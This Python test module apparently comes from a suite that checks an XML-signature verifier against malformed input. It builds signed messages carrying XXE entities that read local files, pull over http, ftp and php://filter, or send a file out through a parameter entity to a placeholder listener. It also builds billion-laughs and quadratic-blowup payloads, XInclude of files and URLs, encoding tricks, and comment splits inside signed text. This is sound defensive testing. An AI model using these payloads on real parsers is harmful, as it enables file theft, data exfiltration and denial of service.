"""What is not a plain document: document types, inclusion, encodings, comments, more than one root."""

import re
from collections.abc import Callable
from functools import partial

from tests.test_attacks.attack import MARK, Family, Genuine, change, signed_anew
from tests.test_attacks.traps import FILE, LISTENER

_BOTH = "soap enveloped"
DTD = Family("document types", "malformed", kinds=_BOTH)
XINCLUDE = Family("XInclude", "malformed", "altered", kinds=_BOTH)
ENCODINGS = Family("encodings", "malformed", kinds=_BOTH)
TRAILING = Family("trailing data", "malformed", kinds=_BOTH)
TEXT = Family("comments and CDATA in signed text", "malformed", kinds=_BOTH)


def _typed(message: Genuine, *, declared: bytes, said: bytes = b"&x;") -> bytes:
    """The message with a document type before its root, and what that declares in the victim's place."""
    return declared.replace(b"LISTENER", LISTENER).replace(b"FILE", FILE) + message.saying(said)


_LAUGHS = b"".join(b'<!ENTITY l%d "%b">' % (n + 1, b"&l%d;" % n * 10) for n in range(12))
_DTDS = {
    "entity of a file": b'<!DOCTYPE a [<!ENTITY x SYSTEM "FILE">]>',
    "entity of a device": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///dev/random">]>',
    "entity over http": b'<!DOCTYPE a [<!ENTITY x SYSTEM "LISTENERx">]>',
    "entity over ftp": b'<!DOCTYPE a [<!ENTITY x SYSTEM "%bx">]>' % LISTENER.replace(b"http", b"ftp"),
    "entity by PHP's filter": b'<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=FILE">]>',
    "entity with a public name": b'<!DOCTYPE a [<!ENTITY x PUBLIC "any" "LISTENERx">]>',
    "parameter entity over http": b'<!DOCTYPE a [<!ENTITY % p SYSTEM "LISTENERx"> %p;]>',
    "parameter entity that sends a file": b'<!DOCTYPE a [<!ENTITY % f SYSTEM "FILE">'
    b'<!ENTITY % p SYSTEM "LISTENERx.dtd"> %p; %send;]>',
    "document type elsewhere": b'<!DOCTYPE a SYSTEM "LISTENERx.dtd">',
    "document type with a public name": b'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "LISTENERx.dtd">',
    "billion laughs": b'<!DOCTYPE a [<!ENTITY l0 "ha">' + _LAUGHS + b'<!ENTITY x "&l12;">]>',
    "quadratic": b'<!DOCTYPE a [<!ENTITY y "' + b"y" * 50_000 + b'"><!ENTITY x "' + b"&y;" * 5_000 + b'">]>',
    "entity of itself": b'<!DOCTYPE a [<!ENTITY x "&x;">]>',
    "entity with the forged text": b'<!DOCTYPE a [<!ENTITY x "' + MARK + b'">]>',
    "ids by declaration": b"<!DOCTYPE a [<!ATTLIST a Id ID #IMPLIED>]>",
    "attributes by default": b'<!DOCTYPE a [<!ATTLIST a Id CDATA "evil">]>',
    "empty": b"<!DOCTYPE a []>",
    "bare": b"<!DOCTYPE a>",
    "after a declaration": b'<?xml version="1.0"?><!DOCTYPE a>',
    "after a byte order mark": b"\xef\xbb\xbf<!DOCTYPE a>",
    "after white space": b"\n\n<!DOCTYPE a>",
    "in small letters": b"<!doctype a>",
    "unfinished": b"<!DOCTYPE a [",
    "without a document": b"<!DOCTYPE a [<!ENTITY x 'x'>]>",
}
for _name, _declared in _DTDS.items():
    # What declares no entity says the forged text itself.
    DTD.add(_name, partial(_typed, declared=_declared, said=b"&x;" if b"x " in _declared else MARK))
DTD.add("entity that nobody declared", partial(_typed, declared=b"", said=b"&x;"))
DTD.add("document type inside", partial(_typed, declared=b"", said=b"<!DOCTYPE a>"))
DTD.add("document type behind", lambda message: message.octets + b"<!DOCTYPE a>")

_XI = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" %b/>'
for _name, _attributes in {
    "a file as text": b'href="%b" parse="text"' % FILE,
    "a file as XML": b'href="%b"' % FILE,
    "http": b'href="%bx"' % LISTENER,
    "itself": b'href="" xpointer="/1"',
}.items():
    XINCLUDE.add(f"{_name} in the signed part", partial(_typed, declared=b"", said=_XI % _attributes))


def _beside_signature(message: Genuine, *, attributes: bytes) -> bytes:
    place = b"</ds:Signature>"
    return change(message.octets, place, place + _XI % attributes)


for _name, _attributes in {
    "a file": b'href="%b" parse="text"' % FILE,
    "http": b'href="%bx"' % LISTENER,
}.items():
    XINCLUDE.add(f"{_name} beside the signature", partial(_beside_signature, attributes=_attributes))


def _encoded(message: Genuine, *, by: Callable[[bytes], bytes]) -> bytes:
    return by(message.octets)


def _declared(name: bytes, version: bytes = b"1.0") -> Callable[[bytes], bytes]:
    return lambda octets: b'<?xml version="%b" encoding="%b"?>' % (version, name) + octets


def _as(codec: str, *, name: bytes = b"") -> Callable[[bytes], bytes]:
    def encode(octets: bytes) -> bytes:
        text = octets.decode()
        if name:
            text = f'<?xml version="1.0" encoding="{name.decode()}"?>{text}'
        return text.encode(codec, "xmlcharrefreplace")

    return encode


_MARKED = b"\xef\xbb\xbf"
for _name, _by in {
    "UTF-16": _as("utf-16"),
    "UTF-16 little end first, no mark": _as("utf-16-le"),
    "UTF-16 big end first, no mark": _as("utf-16-be"),
    "UTF-16 declared": _as("utf-16", name=b"UTF-16"),
    "UTF-32": _as("utf-32"),
    "UTF-32 big end first, no mark": _as("utf-32-be"),
    "UTF-7": lambda octets: octets.replace(b"<", b"+ADw-").replace(b">", b"+AD4-"),
    "UTF-7 declared": lambda octets: _declared(b"UTF-7")(octets.replace(b"<", b"+ADw-")),
    "UTF-7 declared over plain text": _declared(b"utf-7"),
    "Latin 1": _as("latin-1", name=b"ISO-8859-1"),
    "Windows 1258": _as("cp1258", name=b"windows-1258"),
    "EBCDIC": _as("cp037"),
    "UTF-16 declared over UTF-8": _declared(b"UTF-16"),
    "an unknown name": _declared(b"x-nothing"),
    "an empty name": _declared(b""),
    "version 1.1": _declared(b"UTF-8", b"1.1"),
    "version 2.0": _declared(b"UTF-8", b"2.0"),
    "no version": lambda octets: b'<?xml encoding="UTF-8"?>' + octets,
    "two declarations": lambda octets: _declared(b"UTF-8")(_declared(b"UTF-8")(octets)),
    "white space before the declaration": lambda octets: b" " + _declared(b"UTF-8")(octets),
    "two byte order marks": lambda octets: _MARKED * 2 + octets,
    "byte order mark after the declaration": lambda octets: _declared(b"UTF-8")(_MARKED + octets),
    "byte order mark of UTF-16 over UTF-8": lambda octets: b"\xff\xfe" + octets,
    "NUL bytes": lambda octets: octets.replace(b"><", b">\0<", 1),
}.items():
    ENCODINGS.add(_name, partial(_encoded, by=_by))
for _name, _said in {
    "overlong less-than sign": b"\xc0\xbcb/\xc0\xbe",
    "overlong slash": b"\xc0\xaf",
    "overlong letter": b"\xc1\x81",
    "overlong of three bytes": b"\xe0\x80\xaf",
    "overlong of four bytes": b"\xf0\x80\x80\xaf",
    "half of a pair": b"\xed\xa0\x80",
    "a pair as two halves": b"\xed\xa0\xbd\xed\xb8\x80",
    "beyond the last character": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80",
    "a byte alone": b"\xff",
    "half a character": b"\xe1\xbb",
    "a character that is none": "\uffff".encode(),
    "a control": b"\x01",
    "a reference to a control": b"&#1;",
    "a reference to half of a pair": b"&#xD800;",
    "a reference to nothing": b"&#0;",
    "a reference beyond the last": b"&#x110000;",
}.items():
    ENCODINGS.add(_name, partial(_typed, declared=b"", said=_said))

for _name, _end in {
    "text": b"x",
    "a second root": b"<a/>",
    "the forged message": None,
    "NUL": b"\0",
    "a comment": b"<!-- -->",
    "an instruction": b"<?x?>",
    "a CDATA section": b"<![CDATA[x]]>",
    "an end tag": b"</a>",
    "an archive": b"PK\x03\x04",
    "a million spaces and a letter": b" " * 1_000_000 + b"x",
}.items():
    TRAILING.add(
        f"{_name} behind", lambda message, end=_end: message.octets + (message.saying(MARK) if end is None else end)
    )
TRAILING.add("text before", lambda message: b"x" + message.octets)
TRAILING.add("the forged message before", lambda message: message.saying(MARK) + message.octets)
TRAILING.add("an instruction before", lambda message: b"<?xml-stylesheet href='x'?>" + message.octets)
TRAILING.add("a comment before", lambda message: b"<!-- -->" + message.octets)
TRAILING.add("the end missing", lambda message: message.octets[:-1])
TRAILING.add("half of it", lambda message: message.octets[: len(message.octets) // 2])
TRAILING.add("nothing at all", lambda _: b"")
TRAILING.add("spaces only", lambda _: b" " * 1_000)
TRAILING.add("another document", lambda _: b"<html><body>" + MARK + b"</body></html>", "malformed", "not-covered")
TRAILING.add("JSON", lambda _: b'{"data": "' + MARK + b'"}')


def _split(text: bytes, by: bytes) -> bytes:
    said = text.decode()
    half = len(said) // 2
    return said[:half].encode() + by + said[half:].encode()


def _victim_split(message: Genuine, *, by: bytes) -> bytes:
    """What the source says about the victim, cut in two: to some readers its second half is gone."""
    place = rb"(<(?:\w+:)?%b(?: [^>]*)?>)([^<]*)(</)" % message.source.victim
    return re.sub(place, lambda found: found[1] + _split(found[2], by) + found[3], message.octets, count=1)


for _name, _by in {
    "comment": b"<!-- -->",
    "comment with the forged text": b"<!--" + MARK + b"-->",
    "empty comment": b"<!---->",
    "instruction": b"<?x?>",
}.items():
    TEXT.add(f"{_name} in what is said", partial(_victim_split, by=_by))
TEXT.add("CDATA section in what is said", partial(_typed, declared=b"", said=b"<![CDATA[" + MARK + b"]]>"), "altered")
TEXT.add(
    "CDATA section that hides an element",
    partial(_typed, declared=b"", said=b"<![CDATA[</a>]]>" + MARK),
    "altered",
)
TEXT.add("CDATA section unfinished", partial(_typed, declared=b"", said=b"<![CDATA[" + MARK))
TEXT.add("character references", partial(_typed, declared=b"", said=b"&#70;" + MARK[1:]), "altered")


def _inside(message: Genuine, *, name: bytes, by: bytes) -> bytes:
    found = re.search(rb"(<%b(?: [^>]*)?>)([^<]+)" % name, message.octets)
    assert found is not None
    return message.octets[: found.start(2)] + _split(found[2], by) + message.octets[found.end(2) :]


for _name in (b"ds:DigestValue", b"ds:SignatureValue"):
    TEXT.add(f"comment in {_name.decode()}", partial(_inside, name=_name, by=b"<!-- -->"))
    TEXT.add(f"instruction in {_name.decode()}", partial(_inside, name=_name, by=b"<?x?>"))
    TEXT.add(f"element in {_name.decode()}", partial(_inside, name=_name, by=b"<x/>"))
for _place in (b"<ds:Signature ", b"<ds:SignedInfo", b"<ds:SignatureMethod", b"<ds:Reference ", b"<ds:KeyInfo>"):
    TEXT.add(
        f"comment before {_place.decode().strip('<> ')}",
        lambda message, place=_place: change(message.octets, place, b"<!-- -->" + place, 1),
    )


@TEXT.attack()
def comment_under_a_genuine_signature(message: Genuine) -> bytes:
    return signed_anew(_victim_split(message, by=b"<!-- -->"), message.source.key)
